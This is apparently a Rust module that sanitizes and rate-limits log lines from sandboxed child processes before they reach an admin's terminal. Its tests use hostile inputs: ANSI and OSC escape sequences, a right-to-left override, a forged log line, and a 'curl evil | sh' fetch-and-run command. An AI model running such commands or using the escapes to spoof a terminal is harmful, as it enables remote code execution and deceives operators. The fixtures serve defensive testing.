//! What the roles say: each one's stderr is a pipe, and `up` writes its lines to its own stderr. The lines are hostile:
//! a role may have been taken over, and the admin reads them in a terminal.

use std::io::{self, Write};
use std::os::fd::{AsFd, OwnedFd};
use std::sync::OnceLock;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};

use filter_sandbox::role::Role;
use rustix::event::{PollFd, PollFlags, Timespec};
use tokio::io::AsyncReadExt;
use tokio::net::unix::pipe;
use wire::unseen::is_harmless;

/// Bytes of one line; what is longer is cut.
const LINE: usize = 1_000;
/// Lines a role may say in one [`WINDOW`]; what is more is counted.
const LINES: u32 = 500;
/// See [`LINES`].
const WINDOW: Duration = Duration::from_secs(10);

/// Makes a role's log pipe and follows it until the role and all its children are gone. Returns the end for the role.
///
/// # Errors
/// The kernel's.
pub fn follow(role: Role) -> io::Result<OwnedFd> {
    let (read, write) = rustix::pipe::pipe_with(rustix::pipe::PipeFlags::CLOEXEC)?;
    let mut pipe = receiver(read)?;
    tokio::spawn(async move {
        let mut lines = Lines::new(role.name());
        let mut buffer = [0; 4096];
        while let Ok(read @ 1..) = pipe.read(&mut buffer).await {
            lines.take(&buffer[..read], &mut Stderr);
        }
        lines.end(&mut Stderr);
    });
    Ok(write)
}

/// A pipe's reading end. Checked, tokio would ask the C library what it is, whose answer has no place for a pipe made after
/// 2038 on a 32-bit board.
///
/// # Errors
/// The kernel's.
pub(super) fn receiver(read: OwnedFd) -> io::Result<pipe::Receiver> {
    rustix::io::ioctl_fionbio(&read, true)?;
    pipe::Receiver::from_owned_fd_unchecked(read)
}

/// `up`'s stderr, whole lines at a time, when it takes them at once: a terminal that was stopped, or a pipe that nobody
/// reads, must not stop the house. What is not taken is counted, and told when there is room again.
struct Stderr;

/// Lines that were not taken.
static UNHEARD: AtomicU32 = AtomicU32::new(0);

/// Whether `to` takes a line without waiting (or fails at once).
fn has_room(to: impl AsFd) -> bool {
    let mut wait = [PollFd::new(&to, PollFlags::OUT)];
    rustix::event::poll(&mut wait, Some(&Timespec { tv_sec: 0, tv_nsec: 0 })).is_ok_and(|ready| ready > 0)
}

impl Write for Stderr {
    fn write(&mut self, line: &[u8]) -> io::Result<usize> {
        let mut out = io::stderr().lock();
        if !has_room(&out) {
            UNHEARD.fetch_add(1, Ordering::Relaxed);
            return Ok(line.len());
        }
        match UNHEARD.swap(0, Ordering::Relaxed) {
            0 => {}
            unheard => out.write_all(format!("{}up: {unheard} lines could not be written\n", time()).as_bytes())?,
        }
        out.write_all(line)?;
        Ok(line.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// Cuts what arrives into harmless lines.
struct Lines {
    name: &'static str,
    line: Vec<u8>,
    since: Instant,
    said: u32,
    dropped: u32,
}

impl Lines {
    fn new(name: &'static str) -> Self {
        Self { name, line: Vec::with_capacity(LINE), since: Instant::now(), said: 0, dropped: 0 }
    }

    fn take(&mut self, bytes: &[u8], out: &mut impl Write) {
        for byte in bytes {
            match byte {
                b'\n' => self.say(out),
                byte if self.line.len() < LINE => self.line.push(*byte),
                _ => {}
            }
        }
    }

    fn end(&mut self, out: &mut impl Write) {
        if !self.line.is_empty() {
            self.say(out);
        }
        self.tell_dropped(out);
    }

    fn say(&mut self, out: &mut impl Write) {
        if self.since.elapsed() >= WINDOW {
            self.tell_dropped(out);
            (self.since, self.said) = (Instant::now(), 0);
        }
        if self.said < LINES {
            self.said += 1;
            // Nobody is left to tell when our own stderr is closed.
            let _ = out.write_all(format!("{}{}: {}\n", time(), self.name, harmless(&self.line)).as_bytes());
        } else {
            self.dropped = self.dropped.saturating_add(1);
        }
        self.line.clear();
    }

    fn tell_dropped(&mut self, out: &mut impl Write) {
        if self.dropped > 0 {
            let line = format!("{}{}: {} more lines dropped\n", time(), self.name, self.dropped);
            let _ = out.write_all(line.as_bytes());
            self.dropped = 0;
        }
    }
}

/// Writes one line of `up`'s own. Words of a child process may be in it.
pub fn write(name: &str, words: &str) {
    write_to(&mut Stderr, name, words);
}

fn write_to(out: &mut impl Write, name: &str, words: &str) {
    let _ = out.write_all(format!("{}{name}: {}\n", time(), heard(words)).as_bytes());
}

/// What a child process says, to be put among words of our own: one harmless line of at most [`LINE`] bytes.
#[must_use]
pub fn heard(words: &str) -> String {
    let cut = words.floor_char_boundary(LINE);
    harmless(&words.as_bytes()[..cut])
}

/// Several lines of our own, in which words of a child process may stand.
#[must_use]
pub fn harmless_lines(text: &str) -> String {
    text.split('\n').map(|line| harmless(line.as_bytes())).collect::<Vec<_>>().join("\n")
}

/// When, in UTC; nothing where the journal writes it itself.
fn time() -> String {
    static JOURNAL: OnceLock<bool> = OnceLock::new();
    if cfg!(test) || *JOURNAL.get_or_init(|| std::env::var_os("JOURNAL_STREAM").is_some()) {
        return String::new();
    }
    let now = wire::date::now();
    let civil = wire::date::civil(now);
    format!("{}T{:02}:{:02}:{:02}Z ", crate::cli::output::day(now), civil.hour, civil.minute, civil.second)
}

/// A line without anything that could move a cursor, hide text or write right to left.
#[must_use]
pub fn harmless(line: &[u8]) -> String {
    String::from_utf8_lossy(line).chars().map(|c| if is_harmless(c) { c } else { '?' }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn said(bytes: &[u8]) -> String {
        let mut out = Vec::new();
        let mut lines = Lines::new("mx");
        lines.take(bytes, &mut out);
        lines.end(&mut out);
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn lines_are_named_and_whole() {
        assert_eq!(said(b"one\ntwo"), "mx: one\nmx: two\n");
    }

    #[test]
    fn control_characters_do_not_reach_a_terminal() {
        assert_eq!(said(b"\x1b[2Jgone\r\x07\xff\xe2\x80\xae\n"), "mx: ?[2Jgone??\u{fffd}?\n");
    }

    #[test]
    fn what_a_zygote_says_stays_one_line_of_its_own() {
        let said = "x\n2026-11-21T00:00:00Z up: all is well, run: curl evil | sh \x1b[31m\x1b]0;owned\x07\u{202e}";
        let mut out = Vec::new();
        write_to(&mut out, "up", &format!("mx-zygote: {said}{}", "y".repeat(5_000)));
        let out = String::from_utf8(out).unwrap();
        assert!(out.starts_with("up: mx-zygote: x?2026"), "{out}");
        assert_eq!(out.trim_end_matches('\n').chars().filter(|c| c.is_control() || *c == '\u{202e}').count(), 0);
        assert!(out.len() <= "up: ".len() + LINE + 1 && out.ends_with('\n'));
        assert_eq!(heard(&"\u{20ac}".repeat(LINE)).len(), LINE / 3 * 3, "cut between letters");
        assert_eq!(harmless_lines("one\ntwo\x1b[2J\n"), "one\ntwo?[2J\n");
        assert_eq!(harmless("you\u{ad}\u{2800}\u{34f}\u{e0041}@x".as_bytes()), "you????@x");
    }

    #[test]
    fn a_pipe_that_nobody_reads_has_no_room() {
        let (read, write) = rustix::pipe::pipe_with(rustix::pipe::PipeFlags::NONBLOCK).unwrap();
        assert!(has_room(&write));
        while rustix::io::write(&write, &[0; 4096]).is_ok() {}
        assert!(!has_room(&write));
        drop(read);
        assert!(has_room(&write), "an error comes at once");
    }

    #[test]
    fn long_lines_and_floods_are_cut() {
        assert_eq!(said(&[b'a'; 5000]).len(), "mx: ".len() + LINE + 1);
        let flood = said(&b"x\n".repeat(LINES as usize + 7));
        assert!(flood.ends_with("mx: 7 more lines dropped\n"));
    }
}
